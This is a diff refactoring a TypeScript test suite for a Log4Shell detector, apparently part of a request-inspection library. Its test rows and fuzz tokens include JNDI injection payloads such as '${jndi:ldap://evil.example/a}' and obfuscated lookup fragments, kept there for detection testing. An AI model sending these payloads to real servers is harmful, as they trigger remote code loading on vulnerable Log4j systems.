@@ -1,25 +1,19 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { isThreat } from '../../src/core/taxonomy.js';
 import { evaluateLookups, log4shellDetector, mayBeLookup } from '../../src/detect/log4shell.js';
-import type { InspectedValue, Paranoia } from '../../src/detect/types.js';
-import { expectPrefilterSound } from './helpers.js';
+import {
+  ANY_PARANOIA,
+  describePrefilter,
+  expectLinearOnNearMatches,
+  expectWellFormedUnderFuzz,
+  fuzzValues,
+  type Row,
+  rowInspector,
+} from './helpers.js';
 
-const THRESHOLD = { 1: 0.7, 2: 0.5, 3: 0.3 } as const;
+const inspect = rowInspector(log4shellDetector, { location: 'header.user-agent', source: 'header' });
 
-function fired(value: string, paranoia: Paranoia = 1): boolean {
-  const input: InspectedValue = {
-    value,
-    location: 'header.user-agent',
-    source: 'header',
-    profile: 'generic',
-  };
-  return log4shellDetector
-    .compile({ paranoia })(input)
-    .some((f) => f.score >= THRESHOLD[paranoia]);
-}
-
-const ROWS: { input: string; expect: boolean; paranoia?: Paranoia; note?: string }[] = [
+const ROWS: Row[] = [
   { input: '${jndi:ldap://evil.example/a}', expect: true },
   { input: 'Mozilla/5.0 ${jndi:rmi://evil.example:1099/x}', expect: true },
   { input: '${jndi:dns://evil.example}', expect: true },
@@ -48,7 +42,7 @@ const ROWS: { input: string; expect: boolean; paranoia?: Paranoia; note?: string
 
 describe('log4shell detector', () => {
   it.each(ROWS)('$input → $expect (PL $paranoia)', (row) => {
-    expect(fired(row.input, row.paranoia)).toBe(row.expect);
+    expect(inspect(row).fired).toBe(row.expect);
   });
 
   it('evaluates nested lookups like Log4j', () => {
@@ -90,70 +84,40 @@ describe('log4shell detector', () => {
       '$&lbrace;',
       ' ',
     ];
-    const arb = fc.oneof(
-      fc.string({ maxLength: 200 }),
-      fc.array(fc.constantFrom(...pieces), { maxLength: 80 }).map((a) => a.join('')),
-    );
-    fc.assert(
-      fc.property(arb, fc.constantFrom<Paranoia>(1, 2, 3), (value, paranoia) => {
-        for (const f of log4shellDetector.compile({ paranoia })({
-          value,
-          location: 'x',
-          source: 'query',
-          profile: 'generic',
-        })) {
-          expect(isThreat(f.category, f.subtype)).toBe(true);
-          expect(f.score).toBeGreaterThanOrEqual(0.5);
-          expect(f.score).toBeLessThanOrEqual(1);
-          expect((f.fragment ?? '').length).toBeLessThanOrEqual(120);
-        }
-      }),
-      { numRuns: 400 },
-    );
+    expectWellFormedUnderFuzz(log4shellDetector, { value: fuzzValues(pieces, 80), paranoia: ANY_PARANOIA });
   });
 
   it('stays linear on 1 MB of repeated near-matches', () => {
-    const run = log4shellDetector.compile({ paranoia: 3 });
-    for (const unit of ['${jndi:', '${${', '${::-j}', '$&lbrace;', '}', '${lower:${']) {
-      const value = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
-      const t0 = performance.now();
-      run({ value, location: 'q', source: 'query', profile: 'generic' });
-      expect(performance.now() - t0).toBeLessThan(500);
-    }
+    expectLinearOnNearMatches(log4shellDetector, [
+      '${jndi:',
+      '${${',
+      '${::-j}',
+      '$&lbrace;',
+      '}',
+      '${lower:${',
+    ]);
   });
 });
 
-// The prefilter rejects a value before analysis only when the analysis provably finds nothing.
-describe('log4shell prefilter (mayBeLookup)', () => {
-  const pre = (v: string) => mayBeLookup(v);
-  it('never rejects an attack row of the table above', () => {
-    const attacks = ROWS.filter((row) => row.expect);
-    expect(attacks.length).toBeGreaterThan(5);
-    for (const row of attacks) expect(pre(row.input), row.input).toBe(true);
-  });
-  it('rejects typical benign values', () => {
-    for (const v of ['shipping', '482913', "Pat O'Brien", 'user12@example.com', 'SKU-482913']) {
-      expect(pre(v), v).toBe(false);
-    }
-  });
-  it('rejects only values the detector reports nothing on (any profile, source, paranoia)', () => {
-    const token = fc.constantFrom(
-      '$',
-      '{',
-      '}',
-      '${',
-      'jndi:',
-      'ldap:',
-      '&lbrace;',
-      '\\u007b',
-      '%7b',
-      '::-',
-      'lower:',
-      'env:',
-      'a',
-      '1',
-      ' ',
-    );
-    expectPrefilterSound(log4shellDetector, pre, token);
-  });
+describePrefilter('log4shell prefilter (mayBeLookup)', {
+  detector: log4shellDetector,
+  pre: (v: string) => mayBeLookup(v),
+  rows: ROWS,
+  token: fc.constantFrom(
+    '$',
+    '{',
+    '}',
+    '${',
+    'jndi:',
+    'ldap:',
+    '&lbrace;',
+    '\\u007b',
+    '%7b',
+    '::-',
+    'lower:',
+    'env:',
+    'a',
+    '1',
+    ' ',
+  ),
 });
